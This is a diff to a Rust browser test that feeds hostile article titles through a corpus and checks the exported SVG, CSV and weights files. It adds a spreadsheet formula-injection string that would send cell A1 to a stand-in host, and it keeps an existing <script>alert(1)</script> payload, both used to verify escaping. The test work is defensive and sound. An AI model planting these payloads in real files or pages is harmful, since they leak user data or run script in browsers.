@@ -13,6 +13,8 @@ use roxmltree::{Document, ParsingOptions};
 use serde_json::json;
 
 const MARKUP: &str = "<script>alert(1)</script>\"'&";
+/// A link that a spreadsheet would make, and that would send the cell A1 to a stranger.
+const FORMULA: &str = "=HYPERLINK(\"http://a/?\"&A1)";
 /// A direction that is never taken back, an isolate that is never closed, a family of three joined by ZWJ.
 const BIDI: &str = "右から\u{202E}左へ\u{2066}孤立👨\u{200D}👩\u{200D}👧と\u{200B}結合";
 
@@ -48,8 +50,8 @@ fn words_of(svg: &str) -> Vec<String> {
 #[test]
 fn hostile_titles_are_text_from_the_corpus_to_the_page() {
     let folder = folder();
-    // Two of five articles of each category.
-    let corpus = Corpus::sample().titles(|number| [MARKUP, BIDI].get(number % 5).copied());
+    // Three of five articles of each category.
+    let corpus = Corpus::sample().titles(|number| [MARKUP, BIDI, FORMULA].get(number % 5).copied());
     let run = Run::sample(folder.path().join("artifacts"), "hostile")
         .small_model()
         .reads(&corpus.write(folder.path().join("corpus")))
@@ -114,6 +116,14 @@ fn hostile_titles_are_text_from_the_corpus_to_the_page() {
     assert!(!matrix[1..].iter().any(turning), "{matrix:?}");
     assert_eq!(words_of(&saved(&mut browser, &downloads, "#save-svg"))[0], BIDI);
     assert!(saved(&mut browser, &downloads, "#save-csv").lines().skip(1).all(|line| line.ends_with(BIDI)));
+
+    browser.choose("view", "search", "HYPERLINK");
+    browser.wait_until(&format!("{of_text}.startsWith('=HYPERLINK')"));
+    let list = saved(&mut browser, &downloads, "#save-csv");
+    let cell = format!("\"'{}\"", FORMULA.replace('"', "\"\""));
+    assert!(list.lines().count() > 20 && list.lines().skip(1).all(|line| line.ends_with(&cell)), "{list}");
+    let weights = saved(&mut browser, &downloads, "#save-weights");
+    assert!(weights.contains("'=") && !weights.lines().any(|line| line.starts_with('=')), "{weights}");
 
     assert_eq!(browser.evaluate("document.scripts.length"), scripts);
     assert_eq!(browser.complaints(), [""; 0]);
